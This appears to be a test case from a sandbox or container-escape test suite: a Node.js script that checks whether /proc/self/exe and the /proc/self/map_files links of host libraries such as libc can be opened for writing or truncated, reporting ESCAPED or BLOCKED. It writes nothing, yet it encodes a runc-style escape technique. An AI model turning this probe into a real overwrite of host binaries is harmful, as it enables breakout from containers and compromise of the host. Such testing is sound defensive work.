// ccx-attack: overwrite node and the shared libraries it maps (libc...) via /proc/self/map_files
// ccx-category: runc
// ccx-status: ok
// ccx-steps: 3
const fs = require("fs");

// Each host file (from the /usr bind) mapped into us, with the map_files name of its first mapping.
const files = new Map();
for (const line of fs.readFileSync("/proc/self/maps", "utf8").split("\n")) {
    const f = line.trim().split(/\s+/);
    if (f.length < 6 || !f[5].startsWith("/usr/") || files.has(f[5])) continue;
    // maps pads the addresses with zeros; map_files names them without.
    const [start, end] = f[0].split("-").map((x) => BigInt(`0x${x}`).toString(16));
    files.set(f[5], `/proc/self/map_files/${start}-${end}`);
}

// Being open for writing is the escape; nothing is written, so a hole would break nothing.
const tryOpen = (path) => {
    try {
        fs.closeSync(fs.openSync(path, "r+"));
        return null;
    } catch (e) {
        return e.code;
    }
};

const exeErr = tryOpen("/proc/self/exe");
if (exeErr) console.log(`BLOCKED: open /proc/self/exe (node) read-write: ${exeErr}`);
else console.log("ESCAPED: /proc/self/exe (node) is open for writing");

const opened = [];
const codes = new Set();
for (const [file, link] of files) {
    const err = tryOpen(link);
    if (err) codes.add(err);
    else opened.push(file);
}
if (opened.length) console.log(`ESCAPED: writable through map_files: ${opened.join(", ")}`);
else console.log(`BLOCKED: map_files of ${files.size} mapped files: ${[...codes].join(",")}`);

// truncate(2) on the link needs no open descriptor; to its own size, so it would change nothing.
try {
    const exe = fs.readlinkSync("/proc/self/exe");
    fs.truncateSync(files.get(exe), fs.statSync(exe).size);
    console.log("ESCAPED: truncated node through map_files");
} catch (e) {
    console.log(`BLOCKED: truncate node through map_files: ${e.code}`);
}
